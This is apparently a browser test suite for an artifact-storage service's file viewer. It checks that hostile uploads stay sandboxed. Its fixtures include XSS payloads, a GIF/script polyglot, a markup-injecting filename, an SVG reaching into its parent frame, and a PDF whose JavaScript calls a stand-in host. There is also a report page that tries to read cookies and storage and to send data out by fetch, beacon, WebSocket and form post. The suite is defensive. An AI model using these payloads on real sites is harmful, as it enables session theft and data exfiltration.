import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import { crc32, deflateSync } from 'node:zlib';
import test, { type ExecutionContext } from 'ava';
import type { Browser, BrowserContextOptions, Frame, Page } from 'playwright-core';
import { apiOf } from '../support/api.ts';
import { CHROMIUM } from '../support/chromium.ts';
import { required } from '../support/required.ts';
import { startTestService, type TestService } from '../support/service.ts';
import { ADMIN_TOKEN } from '../support/tokens.ts';

/** Hostile evidence in a real browser: what it tries, and that nothing comes of it. */
const browser: Browser | null = await required('Hostile evidence in a browser', CHROMIUM);

const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');

/** Whether a file ran that was to be looked at alone. */
const RAN = "'ran' in self || 'textRan' in self || 'polyglotRan' in self";
/** What is in frames is the report's own. */
const AXE_SAYS = `axe.run(document, { iframes: false }).then(({ violations }) =>
  violations.map(({ id, nodes }) => id + ': ' + nodes.map(({ html }) => html).join(' ').slice(0, 300)))`;

/** A red pixel. */
const PIXEL = png();
const GIF_SCRIPT = Buffer.from(
  'GIF89a/*\u0001\u0000\u0001\u0000*/=1;self.polyglotRan=true;document.title="polyglot"//',
  'latin1',
);
const MARKUP_NAME = `<img src=x onerror="self.ran=1">'"&.txt`;

/** @param elsewhere another server @param service the one that shows it */
function report(elsewhere: string, service: string): string {
  return `<!doctype html><html><head><title>report</title>
<link rel="stylesheet" href="a/style.css">
<script src="a/lib.js"></script>
<script type="module" src="./a/module.js"></script>
<script src="poly.gif"></script>
<script src="page.txt"></script>
<link rel="dns-prefetch" href="${elsewhere}">
</head><body><h1>report</h1><img id="own" src="a/pixel.png"><img src="${elsewhere}/image">
<form id="form" action="${elsewhere}/form" method="post"></form>
<script>
const seen = { };
const trying = (name, work) => { try { const got = work(); seen[name] = got instanceof Promise ? 'waiting' : String(got); if (got instanceof Promise) got.then((v) => { seen[name] = 'got ' + v; }, (e) => { seen[name] = 'refused ' + e.name; }); } catch (error) { seen[name] = 'refused ' + error.name; } };
trying('origin', () => self.origin);
trying('cookie', () => document.cookie);
trying('setCookie', () => { document.cookie = 'a=b'; return document.cookie; });
trying('localStorage', () => localStorage.length);
trying('sessionStorage', () => sessionStorage.length);
trying('indexedDB', () => indexedDB.open('x') && 'opened');
trying('parent', () => parent.document.title);
trying('parentHref', () => parent.location.href);
trying('top', () => { top.location = '${elsewhere}/top'; return 'went'; });
trying('opened', () => window.open('${elsewhere}/popup'));
trying('packages', () => fetch('/v1/packages').then((r) => r.text()));
trying('packagesThere', () => fetch('${service}/v1/packages', { credentials: 'include' }).then((r) => r.text()));
trying('noCors', () => fetch('${service}/v1/packages', { mode: 'no-cors' }).then((r) => r.type));
trying('elsewhere', () => fetch('${elsewhere}/fetch', { mode: 'no-cors' }).then((r) => r.type));
trying('beacon', () => navigator.sendBeacon('${elsewhere}/beacon', 'x'));
trying('socket', () => new Promise((yes, no) => { const s = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); s.onopen = yes; s.onerror = () => no(new Error('socket')); }));
trying('worker', () => navigator.serviceWorker.register('a/lib.js'));
trying('form', () => { document.getElementById('form').submit(); return 'sent'; });
trying('own', () => fetch('./a/data.json').then((r) => r.json()).then((j) => j.answer));
self.results = seen;
</script></body></html>`;
}

/** A PDF that tries to send what it knows, then says so. */
function pdf(elsewhere: string): string {
  const tries = ['this.submitForm', 'app.launchURL', 'this.getURL', 'app.openDoc'].map(
    (how) => `try { ${how}('${elsewhere}/pdf') } catch (e) {}`,
  );
  const script = `${tries.join(';')}; app.alert('pdf')`.replace(/[()]/g, '\\$&');
  return `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]>>/OpenAction<</S/JavaScript/JS(${script})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 144]/AA<</O<</S/URI/URI(${elsewhere}/pdf)>>>>>>endobj
trailer<</Root 1 0 R>>`;
}

function filesOf(elsewhere: string, service: string): Record<string, string | Uint8Array> {
  return {
    'report.html': report(elsewhere, service),
    'leave.html': `<script>setTimeout(() => { location = '${elsewhere}/left?' + document.title }, 50)</script>left behind`,
    'a/style.css': 'h1 { color: rgb(1, 2, 3) }',
    'a/lib.js': 'self.libRan = true',
    'a/module.js': 'self.moduleRan = true',
    'a/data.json': '{"answer": 42}',
    'a/pixel.png': PIXEL,
    'poly.gif': GIF_SCRIPT,
    'page.txt': '<html><script>self.textRan = true; document.title = "ran"</script>\n\u001b[31;1mred\u001b[0m\n'.repeat(
      3,
    ),
    'x.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>self.svg = self.origin; try { parent.document.title = 'svg' } catch (e) { self.svg += ' refused' }</script><circle r="4"/></svg>`,
    'doc.pdf': pdf(elsewhere),
    'html.pdf': '<html><script>self.ran = true; document.title = "ran"</script>',
    'data.json': '{"html": "</pre><script>self.ran=1</script>", "n": [1, 2]}',
    'bare.xml': '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>self.ran=1</script></html>',
    [MARKUP_NAME]: 'a name',
  };
}

interface Place {
  service: TestService;
  id: string;
  /** Where other servers are asked: what came there. */
  asked: string[];
  link: string;
  close(): Promise<void>;
}

let place: Place | null = null;

async function open(): Promise<Place> {
  const asked: string[] = [];
  const other: Server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('elsewhere');
  }).listen(0, '127.0.0.1');
  await once(other, 'listening');
  // Without any token, the worst that there is: whoever reaches the service may do everything.
  const service = await startTestService();
  const api = apiOf(service.url);
  const elsewhere = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  const id = await api.preserve(filesOf(elsewhere, service.url), { name: 'hostile <b>' });
  const link = (await api.post(`/v1/packages/${id}/shares`, {})).body.url;
  const close = async () => {
    other.closeAllConnections();
    other.close();
    await service.dispose();
  };
  return { service, id, asked, link, close };
}

if (browser !== null) {
  test.before(async () => {
    place = await open();
  });
  test.after.always(async () => {
    await browser.close();
    await place?.close();
  });

  /** A page with a cookie of the service, as of somebody who is signed in; every dialog and window that it opens is told. */
  async function visit(
    t: ExecutionContext,
    address: string,
    options: BrowserContextOptions = {},
  ): Promise<{ page: Page; told: string[]; requests: string[] }> {
    const { service } = place as Place;
    const context = await (browser as Browser).newContext({ viewport: { width: 1_000, height: 800 }, ...options });
    t.teardown(() => context.close());
    await context.addCookies([
      { name: 'session', value: 'secret', url: service.url, httpOnly: false, sameSite: 'Strict' },
    ]);
    const told: string[] = [];
    const requests: string[] = [];
    context.on('page', (other) => told.push(`window ${other.url()}`));
    const page = await context.newPage();
    told.length = 0;
    page.on('dialog', (dialog) => {
      told.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    context.on('request', (request) => requests.push(request.url()));
    await page.goto(address);
    return { page, told, requests };
  }

  const pageOf = (path: string, query = '') => {
    const { service, id } = place as Place;
    return `${service.url}/ui/packages/${id}/files/${path.split('/').map(encodeURIComponent).join('/')}${query}`;
  };
  const frameOf = async (page: Page): Promise<Frame> => {
    const frame = await (await page.waitForSelector('iframe.report')).contentFrame();
    await frame?.waitForLoadState();
    return frame as Frame;
  };

  test('a report runs, with its own files by relative addresses, and can do nothing else', async (t) => {
    const { page, told, requests } = await visit(t, pageOf('report.html'));
    const frame = await frameOf(page);
    await frame.waitForFunction("!Object.values(self.results).includes('waiting')");
    await frame.waitForFunction('self.moduleRan');
    const seen = (await frame.evaluate('self.results')) as Record<string, string>;
    t.is(seen.own, 'got 42');
    t.true(await frame.evaluate('self.libRan'));
    t.is(await frame.evaluate("getComputedStyle(document.querySelector('h1')).color"), 'rgb(1, 2, 3)');
    t.is(await frame.evaluate("document.getElementById('own').naturalWidth"), 1);

    t.is(seen.origin, 'null');
    for (const name of [
      'cookie',
      'setCookie',
      'localStorage',
      'sessionStorage',
      'indexedDB',
      'parent',
      'parentHref',
      'top',
    ]) {
      t.regex(seen[name] as string, /^refused/, name);
    }
    for (const name of ['packages', 'packagesThere', 'noCors', 'elsewhere', 'socket', 'worker']) {
      t.regex(seen[name] as string, /^refused/, name);
    }
    t.is(seen.opened, 'null');
    t.false(await frame.evaluate(RAN), 'what is sent as an image or a text is no script');
    t.deepEqual((place as Place).asked, [], 'nothing was sent elsewhere');
    t.deepEqual(told, []);
    t.deepEqual(
      requests.filter((url) => url.includes('/v1/')),
      [],
      'nothing of the API was asked',
    );
    t.is(page.url(), pageOf('report.html'), 'the page is where it was');
    t.is(await page.title(), 'report.html – artifact-store');
  });

  test('a report cannot lead its frame elsewhere', async (t) => {
    const { page } = await visit(t, pageOf('leave.html'));
    const frame = await frameOf(page);
    while (frame.url().includes('/ui/evidence/')) await page.waitForTimeout(20);
    t.is(frame.url(), 'chrome-error://chromewebdata/');
    t.false((place as Place).asked.some((path) => path.startsWith('/left')));
  });

  test('an SVG that scripts is nobody, too', async (t) => {
    const { page, told } = await visit(t, pageOf('x.svg'));
    const frame = await frameOf(page);
    t.is(await frame.evaluate('self.svg'), 'null refused');
    t.is(await page.title(), 'x.svg – artifact-store');
    t.deepEqual(told, []);
  });

  test('nothing runs in the page, whatever the file is', async (t) => {
    for (const path of ['page.txt', 'data.json', 'bare.xml', 'poly.gif', 'doc.pdf', 'html.pdf', MARKUP_NAME]) {
      const { page, told } = await visit(t, pageOf(path));
      await page.waitForLoadState('load');
      t.false(await page.evaluate(RAN), path);
      t.deepEqual(told, [], path);
      t.is(await page.evaluate('document.scripts.length'), 0, path);
    }
    const { page } = await visit(t, pageOf(MARKUP_NAME));
    t.is(await page.textContent('h1'), MARKUP_NAME);
  });

  test('a PDF opens when it is asked for, and its script can show a box, and send nothing', async (t) => {
    const { page, told } = await visit(t, pageOf('doc.pdf'));
    t.is(await page.locator('iframe').count(), 0);
    t.deepEqual(told, []);
    const box = page.waitForEvent('dialog');
    await page.click("text=Open it in the browser's reader");
    t.is((await box).message(), 'pdf', 'its script has run, after all that it tried');
    t.is(page.url(), pageOf('doc.pdf', '?view=reader'));
    t.is(await page.title(), 'doc.pdf – artifact-store');
    t.deepEqual(told, ['dialog pdf']);
    t.deepEqual(
      (place as Place).asked.filter((path) => path.startsWith('/pdf')),
      [],
    );
  });

  test('opened in a tab of its own, a file that can run is saved, and every other is nobody', async (t) => {
    const { page } = await visit(t, pageOf('report.html'));
    const raw = (await page.getAttribute('iframe.report', 'src')) as string;
    const there = new URL(raw.replace('report.html', ''), page.url()).href;
    for (const path of ['report.html', 'x.svg']) {
      const download = page.waitForEvent('download');
      await page.goto(there + path).catch(() => {});
      t.is((await download).suggestedFilename(), path);
    }
    for (const path of ['page.txt', 'poly.gif', 'bare.xml', 'data.json']) {
      await page.goto(there + path);
      t.is(await page.evaluate('self.origin'), 'null', path);
      t.false(await page.evaluate(RAN), path);
    }
  });

  test('a link shows the same, without a cookie, and by keyboard', async (t) => {
    const { link } = place as Place;
    const { page, told } = await visit(t, link);
    await page.context().clearCookies();
    await page.keyboard.press('Tab');
    t.is(await page.evaluate('document.activeElement?.textContent'), 'To the content');
    await page.click('text=report.html');
    const frame = await frameOf(page);
    await frame.waitForFunction("self.results.own === 'got 42'");
    t.deepEqual(told, []);
  });

  test('who is signed in by a cookie sees the report, and the report has no part of it', async (t) => {
    const service = await startTestService({ env: { ARTIFACT_STORE_ADMIN_TOKEN: ADMIN_TOKEN } });
    t.teardown(() => service.dispose());
    const id = await apiOf(service.url, ADMIN_TOKEN).preserve(filesOf('http://127.0.0.1:9', service.url));
    const address = `${service.url}/ui/packages/${id}/files/report.html`;
    const { page } = await visit(t, address);
    const cookies = new Map<string, string | undefined>();
    page.on('request', async (request) => {
      const { pathname } = new URL(request.url());
      if (pathname.startsWith('/ui/evidence/')) cookies.set(pathname, (await request.allHeaders()).cookie);
    });
    await page.fill('#token', ADMIN_TOKEN);
    await page.press('#token', 'Enter');
    const frame = await frameOf(page);
    await frame.waitForFunction("self.results.own === 'got 42'");
    t.is(page.url(), address);
    const seen = (await frame.evaluate('self.results')) as Record<string, string>;
    for (const name of ['cookie', 'packages', 'packagesThere']) t.regex(seen[name] as string, /^refused/, name);
    const own = [...cookies].filter(([path]) => /(style\.css|lib\.js|data\.json|pixel\.png)$/.test(path));
    t.true(own.length >= 4);
    for (const [path, cookie] of own) t.is(cookie, undefined, path);
  });

  test('axe-core finds nothing to complain of, in light and dark, wide and narrow', async (t) => {
    const { link } = place as Place;
    for (const [address, scheme, width] of [
      [link, 'light', 1_000],
      [`${link}/files/page.txt`, 'dark', 360],
      [pageOf('page.txt'), 'light', 360],
      [pageOf('page.txt', '?q=red'), 'dark', 1_000],
      [pageOf('data.json'), 'light', 1_000],
      [pageOf('x.svg'), 'dark', 1_000],
      [pageOf('poly.gif'), 'light', 1_000],
      [pageOf('doc.pdf'), 'dark', 360],
    ] as const) {
      const { page } = await visit(t, 'about:blank', { bypassCSP: true });
      await page.emulateMedia({ colorScheme: scheme });
      await page.setViewportSize({ width, height: 800 });
      await page.goto(address);
      const scrolls = await page.evaluate('document.documentElement.scrollWidth > innerWidth');
      t.false(scrolls, `${address} is wider than ${width}`);
      await page.addScriptTag({ path: AXE });
      t.deepEqual(await page.evaluate(AXE_SAYS), [], address);
    }
  });
}

function png(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
  const rows = deflateSync(Buffer.from([0, 255, 0, 0]));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}
